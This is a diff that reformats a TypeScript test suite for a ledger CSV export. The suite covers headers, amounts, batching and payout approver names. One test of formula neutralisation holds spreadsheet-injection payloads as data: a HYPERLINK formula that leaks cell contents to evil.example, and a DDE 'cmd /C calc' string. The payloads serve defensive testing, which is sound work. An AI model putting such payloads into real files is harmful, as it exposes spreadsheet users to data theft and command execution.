@@ -10,8 +10,16 @@ let sequence = 0;
 function entry(fields: Partial<LedgerEntry> = {}): LedgerEntry {
   sequence += 1;
   return {
-    key: `k${sequence}`, reference: `TXN-${sequence}`, type: 'PAYMENT', amountMinor: 1000, currency: 'USD',
-    description: 'Payment', date: '2026-10-05T09:30:00.000Z', status: 'Completed', firstSeenAt: new Date(), late: false,
+    key: `k${sequence}`,
+    reference: `TXN-${sequence}`,
+    type: 'PAYMENT',
+    amountMinor: 1000,
+    currency: 'USD',
+    description: 'Payment',
+    date: '2026-10-05T09:30:00.000Z',
+    status: 'Completed',
+    firstSeenAt: new Date(),
+    late: false,
     ...fields,
   };
 }
@@ -38,12 +46,44 @@ describe('the ledger CSV export', () => {
 
   it('writes a header row in English, then one row per entry in the order given, with CRLF line ends and a byte order mark', async () => {
     const { raw, records, result } = await write([entry({ reference: 'A-1' }), entry({ reference: 'B-2', amountMinor: -250 })]);
-    expect(raw.startsWith('\uFEFFreference,date,type,status,direction,amount,currency,description,payout_request_id,requested_by,approved_by,requested_by_name,approved_by_names\r\n')).toBe(true);
+    expect(
+      raw.startsWith(
+        '\uFEFFreference,date,type,status,direction,amount,currency,description,payout_request_id,requested_by,approved_by,requested_by_name,approved_by_names\r\n',
+      ),
+    ).toBe(true);
     expect(raw.endsWith('\r\n')).toBe(true);
     expect(result.rows).toBe(2);
     expect(records).toEqual([
-      { reference: 'A-1', date: '2026-10-05T09:30:00.000Z', type: 'PAYMENT', status: 'Completed', direction: 'in', amount: '10.00', currency: 'USD', description: 'Payment', payout_request_id: '', requested_by: '', approved_by: '', requested_by_name: '', approved_by_names: '' },
-      { reference: 'B-2', date: '2026-10-05T09:30:00.000Z', type: 'PAYMENT', status: 'Completed', direction: 'out', amount: '-2.50', currency: 'USD', description: 'Payment', payout_request_id: '', requested_by: '', approved_by: '', requested_by_name: '', approved_by_names: '' },
+      {
+        reference: 'A-1',
+        date: '2026-10-05T09:30:00.000Z',
+        type: 'PAYMENT',
+        status: 'Completed',
+        direction: 'in',
+        amount: '10.00',
+        currency: 'USD',
+        description: 'Payment',
+        payout_request_id: '',
+        requested_by: '',
+        approved_by: '',
+        requested_by_name: '',
+        approved_by_names: '',
+      },
+      {
+        reference: 'B-2',
+        date: '2026-10-05T09:30:00.000Z',
+        type: 'PAYMENT',
+        status: 'Completed',
+        direction: 'out',
+        amount: '-2.50',
+        currency: 'USD',
+        description: 'Payment',
+        payout_request_id: '',
+        requested_by: '',
+        approved_by: '',
+        requested_by_name: '',
+        approved_by_names: '',
+      },
     ]);
     expect(Object.keys(records[0]!)).toEqual([...EXPORT_COLUMNS]);
   });
@@ -66,7 +106,7 @@ describe('the ledger CSV export', () => {
   it('neutralises text cells a spreadsheet would run as a formula, and they still read back exactly behind the quote mark', async () => {
     const hostile = [
       '=HYPERLINK("https://evil.example/?leak="&A1,"Click for refund")',
-      '+1+cmd|\' /C calc\'!A0',
+      "+1+cmd|' /C calc'!A0",
       '-2+3',
       '@SUM(1,1)',
       '\tindented=1',
@@ -98,15 +138,25 @@ describe('the ledger CSV export', () => {
     ];
     const { records, raw } = await write(amounts.map(([amountMinor, currency]) => entry({ amountMinor, currency })));
     expect(records.map((record) => [record.amount, record.currency])).toEqual(amounts.map(([, currency, plain]) => [plain, currency]));
-    const lines = raw.replace(/^\uFEFF/, '').split('\r\n').slice(1, -1);
+    const lines = raw
+      .replace(/^\uFEFF/, '')
+      .split('\r\n')
+      .slice(1, -1);
     expect(lines.map((line) => line.split(',')[5])).toEqual(amounts.map(([, , plain]) => plain));
     expect(records.map((record) => record.direction)).toEqual(['', 'in', 'out', 'in', 'out', 'out', 'in', 'in', 'out']);
   });
 
   it('writes the same file, byte for byte, whether a batch is turned into text in one piece or in many', async () => {
-    const entries = Array.from({ length: 1234 }, (_, n) => entry({ reference: `R-${n}`, amountMinor: n % 3 === 0 ? -n : n, description: n % 5 === 0 ? 'Line\nbreak, "quoted"' : `=Payment ${n}` }));
+    const entries = Array.from({ length: 1234 }, (_, n) =>
+      entry({ reference: `R-${n}`, amountMinor: n % 3 === 0 ? -n : n, description: n % 5 === 0 ? 'Line\nbreak, "quoted"' : `=Payment ${n}` }),
+    );
     const payouts: PayoutLookup = {
-      byTransactionReferences: async (references) => new Map(references.filter((reference) => reference.endsWith('7')).map((reference) => [reference, { requestId: `PO-${reference}`, requestedBy: 'U0REQUESTER', approvedBy: ['U0APPROVER'] }])),
+      byTransactionReferences: async (references) =>
+        new Map(
+          references
+            .filter((reference) => reference.endsWith('7'))
+            .map((reference) => [reference, { requestId: `PO-${reference}`, requestedBy: 'U0REQUESTER', approvedBy: ['U0APPROVER'] }]),
+        ),
     };
     const { raw: rowByRow } = await write(entries, payouts, { batchSize: 1 });
     const { raw: inBatches, result } = await write(entries, payouts);
@@ -137,13 +187,18 @@ describe('the ledger CSV export', () => {
     ]);
   });
 
-  it('names the requester and the approvers beside their IDs, asking for each batch\'s people once, as text a spreadsheet never runs', async () => {
+  it("names the requester and the approvers beside their IDs, asking for each batch's people once, as text a spreadsheet never runs", async () => {
     const payouts: PayoutLookup = {
-      byTransactionReferences: async (references) => new Map(references.flatMap((reference): Array<[string, ExportedPayout]> => (
-        reference === 'PAY-1' ? [[reference, { requestId: 'PO-ABC', requestedBy: 'U0RITA', approvedBy: ['U0ABEL', 'U0EVIL'] }]]
-          : reference === 'PAY-2' ? [[reference, { requestId: 'PO-DEF', requestedBy: 'U0RITA', approvedBy: ['U0ABEL', 'U0GONE'] }]]
-            : []
-      ))),
+      byTransactionReferences: async (references) =>
+        new Map(
+          references.flatMap((reference): Array<[string, ExportedPayout]> =>
+            reference === 'PAY-1'
+              ? [[reference, { requestId: 'PO-ABC', requestedBy: 'U0RITA', approvedBy: ['U0ABEL', 'U0EVIL'] }]]
+              : reference === 'PAY-2'
+                ? [[reference, { requestId: 'PO-DEF', requestedBy: 'U0RITA', approvedBy: ['U0ABEL', 'U0GONE'] }]]
+                : [],
+          ),
+        ),
     };
     const asked: string[][] = [];
     const names: PersonNames = {
